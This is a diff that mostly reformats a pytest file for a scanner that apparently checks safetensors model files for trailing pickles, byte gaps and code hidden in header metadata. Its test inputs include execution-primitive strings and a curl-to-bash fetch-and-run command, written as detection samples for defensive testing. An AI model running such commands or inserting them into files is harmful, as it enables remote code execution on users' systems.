@@ -10,8 +10,6 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from airlock.scanners import safetensors_header
-from airlock.scanners.safetensors_header import DTYPE_BITS, SafetensorsHeader
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
@@ -21,6 +19,8 @@ from airlock.formats import Format
 from airlock.pipeline import ScanOptions, scan
 from airlock.policy import parse_policy
 from airlock.rules import load_rules
+from airlock.scanners import safetensors_header
+from airlock.scanners.safetensors_header import DTYPE_BITS, SafetensorsHeader
 from airlock.scanning import Limits, ScanContext
 from airlock.sources.interface import Snapshot
 from fixtures import weights_files
@@ -65,7 +65,10 @@ def test_each_hostile_file_yields_exactly_its_rules(name: str, generated) -> Non
 
 @pytest.mark.parametrize("name", sorted(SAFETENSORS_MALICIOUS))
 def test_each_hostile_file_fails_the_default_threshold(name: str, generated) -> None:
-    report = scan(str(generated(SAFETENSORS_MALICIOUS[name][0])), ScanOptions(policy=POLICY, use_cache=False, scanners=SCANNERS))
+    report = scan(
+        str(generated(SAFETENSORS_MALICIOUS[name][0])),
+        ScanOptions(policy=POLICY, use_cache=False, scanners=SCANNERS),
+    )
     assert POLICY.fail_at == Severity.HIGH
     assert not report.passed, [(f.rule, str(f.severity)) for f in report.findings]
 
@@ -81,7 +84,11 @@ def test_trailing_pickle_is_located_and_identified(generated) -> None:
     (finding,) = _findings(path)
     (length,) = struct.unpack("<Q", path.read_bytes()[:8])
     assert finding.location == f"model.safetensors@byte:{8 + length + 24}"
-    assert (finding.severity, finding.evidence["kind"], finding.evidence["looks_like"]) == (Severity.HIGH, "trailing", "pickle")
+    assert (finding.severity, finding.evidence["kind"], finding.evidence["looks_like"]) == (
+        Severity.HIGH,
+        "trailing",
+        "pickle",
+    )
 
 
 @pytest.mark.parametrize(
@@ -99,9 +106,17 @@ def test_findings_name_the_tensor_or_key(name: str, location: str, generated) ->
 
 
 def test_a_few_hidden_bytes_are_medium_and_a_gap_is_found(tmp_path: Path) -> None:
-    header = {"a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}, "b": {"dtype": "U8", "shape": [4], "data_offsets": [8, 12]}}
+    header = {
+        "a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]},
+        "b": {"dtype": "U8", "shape": [4], "data_offsets": [8, 12]},
+    }
     (gap,) = _scan_bytes(safetensors_bytes(header, b"aaaa" + b"XYZW" + b"bbbb"), tmp_path)
-    assert (gap.rule, gap.severity, gap.evidence["kind"], gap.evidence["length"]) == ("AIR402", Severity.MEDIUM, "gap", 4)
+    assert (gap.rule, gap.severity, gap.evidence["kind"], gap.evidence["length"]) == (
+        "AIR402",
+        Severity.MEDIUM,
+        "gap",
+        4,
+    )
 
 
 def test_padding_spaces_and_leading_whitespace_are_what_the_loader_accepts(tmp_path: Path) -> None:
@@ -113,7 +128,10 @@ def test_padding_spaces_and_leading_whitespace_are_what_the_loader_accepts(tmp_p
     "header, reason",
     [
         (b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"__metadata__":{"x":1}}', "not a string"),
-        (b'{"__metadata__":{},"__metadata__":{},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', "duplicate field"),
+        (
+            b'{"__metadata__":{},"__metadata__":{},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}',
+            "duplicate field",
+        ),
         (b'{"a":{"dtype":"F32","shape":[-0],"data_offsets":[0,8]}}', "shape"),
         (b'{"a":{"dtype":"F32","shape":[2.0],"data_offsets":[0,8]}}', "shape"),
         (b'{"a":{"dtype":"F32","shape":[true,2],"data_offsets":[0,8]}}', "shape"),
@@ -121,7 +139,10 @@ def test_padding_spaces_and_leading_whitespace_are_what_the_loader_accepts(tmp_p
         (b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"x":NaN}}', "invalid JSON"),
         (b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"x":1e400}}', "invalid JSON"),
         (b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"x":"\\ud800"}}', "surrogate"),
-        (b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"x":' + b"[" * 126 + b"]" * 126 + b"}}", "nesting"),
+        (
+            b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"x":' + b"[" * 126 + b"]" * 126 + b"}}",
+            "nesting",
+        ),
         (b'\xef\xbb\xbf{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', "invalid JSON"),
         (b'{"a":{"dtype":"F4","shape":[3],"data_offsets":[0,8]}}', "byte boundary"),
         (b'{"a":{"dtype":"U8","shape":[4294967296,4294967296,0],"data_offsets":[0,8]}}', "overflows"),
@@ -135,7 +156,11 @@ def test_serde_strictness_is_reproduced(header: bytes, reason: str, tmp_path: Pa
 
 def test_a_header_beyond_the_entry_limit_is_unvetted_not_parsed(tmp_path: Path) -> None:
     path = tmp_path / "model.safetensors"
-    path.write_bytes(safetensors_bytes({f"t{i}": {"dtype": "U8", "shape": [1], "data_offsets": [i, i + 1]} for i in range(50)}, bytes(50)))
+    path.write_bytes(
+        safetensors_bytes(
+            {f"t{i}": {"dtype": "U8", "shape": [1], "data_offsets": [i, i + 1]} for i in range(50)}, bytes(50)
+        )
+    )
     (unvetted,) = _scan_file(path, Limits(max_entries=100))
     assert (unvetted.rule, unvetted.severity) == ("AIR407", Severity.HIGH)  # not parsed to the end
     assert _scan_file(path) == []
@@ -150,7 +175,10 @@ def test_metadata_over_one_mebibyte_is_low_and_over_sixteen_is_high(tmp_path: Pa
 
 
 def _metadata_findings(value: str, folder: Path) -> list[Finding]:
-    header = {"__metadata__": {"format": "pt", "v": value}, "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
+    header = {
+        "__metadata__": {"format": "pt", "v": value},
+        "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
+    }
     return _scan_bytes(safetensors_bytes(header, bytes(8)), folder)
 
 
@@ -164,21 +192,33 @@ def _metadata_findings(value: str, folder: Path) -> list[Finding]:
         ("exec(base64.b64decode('aWQ='))", "exec(base64.b64decode('aWQ='))"),
         ("pickle.loads(base64.b64decode('gAR9lC4='))", "pickle.loads(base64.b64decode('gAR9lC4='))"),
         ("getattr(__builtins__, 'ev' + 'al')('1')", "getattr(__builtins__, 'ev' + 'al')"),
-        ("importlib.import_module('subprocess').check_output('id')", "importlib.import_module('subprocess').check_output('id')"),
+        (
+            "importlib.import_module('subprocess').check_output('id')",
+            "importlib.import_module('subprocess').check_output('id')",
+        ),
         ("().__class__.__base__.__subclasses__()", "().__class__.__base__.__subclasses__()"),
-        ('{"_target_": "os.system", "args": ["id"]}', "os.system"),  # JSON whose string a loader would resolve
+        (
+            '{"_target_": "os.system", "args": ["id"]}',
+            "os.system",
+        ),  # JSON whose string a loader would resolve
         ("run me: eval(input())", "eval(input())"),  # not Python: by pattern
         ("curl -s https://example.invalid/x.sh | bash", "| bash"),
     ],
 )
 def test_metadata_that_names_an_execution_primitive_is_high(value: str, match: str, tmp_path: Path) -> None:
     (finding,) = _metadata_findings(value, tmp_path)
-    assert (finding.rule, finding.severity, finding.location) == ("AIR408", Severity.HIGH, "model.safetensors@header:__metadata__:v")
+    assert (finding.rule, finding.severity, finding.location) == (
+        "AIR408",
+        Severity.HIGH,
+        "model.safetensors@header:__metadata__:v",
+    )
     assert finding.evidence["match"] == match
 
 
 KOHYA_TAGS = json.dumps({"10_sks dog": {"sks dog": 20, "1girl": 3, "solo": 4, "import export": 1}})
-KOHYA_DATASETS = json.dumps([{"is_dreambooth": True, "batch_size_per_device": 2, "subsets": [{"image_dir": "train/10_sks dog"}]}])
+KOHYA_DATASETS = json.dumps(
+    [{"is_dreambooth": True, "batch_size_per_device": 2, "subsets": [{"image_dir": "train/10_sks dog"}]}]
+)
 
 
 @pytest.mark.parametrize(
@@ -205,7 +245,9 @@ def test_real_metadata_is_not_code(value: str, tmp_path: Path) -> None:
 
 
 def test_a_url_stays_informational(tmp_path: Path) -> None:
-    (finding,) = _metadata_findings("https://github.com/Stability-AI/generative-models", tmp_path)  # modelspec.implementation
+    (finding,) = _metadata_findings(
+        "https://github.com/Stability-AI/generative-models", tmp_path
+    )  # modelspec.implementation
     assert (finding.rule, finding.severity) == ("AIR406", Severity.INFO)
 
 
@@ -219,8 +261,16 @@ def _counting_open(log: list[int]) -> Any:
     return lambda path, mode="rb": Counting(path, "r")
 
 
-def test_only_the_header_of_a_one_gigabyte_file_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    header = safetensors_bytes({"__metadata__": {"format": "pt"}, "w": {"dtype": "U8", "shape": [1 << 30], "data_offsets": [0, 1 << 30]}}, b"")
+def test_only_the_header_of_a_one_gigabyte_file_is_read(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    header = safetensors_bytes(
+        {
+            "__metadata__": {"format": "pt"},
+            "w": {"dtype": "U8", "shape": [1 << 30], "data_offsets": [0, 1 << 30]},
+        },
+        b"",
+    )
     path = tmp_path / "big.safetensors"
     with open(path, "wb") as fh:
         fh.write(header)
@@ -243,6 +293,7 @@ def test_the_real_checkpoint_is_read_header_only(monkeypatch: pytest.MonkeyPatch
 
 
 # -- hostile input: never raise, never hang, and agree with the real loader --------------------------
+
 
 def _loader_accepts(data: bytes, folder: Path) -> bool:
     from safetensors import SafetensorError, safe_open
@@ -269,12 +320,18 @@ _HEADER = st.dictionaries(st.text(max_size=4), _TENSOR, max_size=4).map(
 
 
 def _mutate(data: bytes, at: int, byte: int) -> bytes:
-    return data[:at % len(data)] + bytes([byte]) + data[at % len(data) + 1 :]
+    return data[: at % len(data)] + bytes([byte]) + data[at % len(data) + 1 :]
 
 
 @HOSTILE
-@given(header=_HEADER, data_len=st.integers(0, 96), flip=st.none() | st.tuples(st.integers(8, 400), st.integers(0, 255)))
-def test_our_verdict_matches_the_loader(header: dict[str, Any], data_len: int, flip: tuple[int, int] | None, tmp_path: Path) -> None:
+@given(
+    header=_HEADER,
+    data_len=st.integers(0, 96),
+    flip=st.none() | st.tuples(st.integers(8, 400), st.integers(0, 255)),
+)
+def test_our_verdict_matches_the_loader(
+    header: dict[str, Any], data_len: int, flip: tuple[int, int] | None, tmp_path: Path
+) -> None:
     data = safetensors_bytes(json.dumps(header).encode(), bytes(data_len))
     if flip is not None:
         data = _mutate(data, *flip)
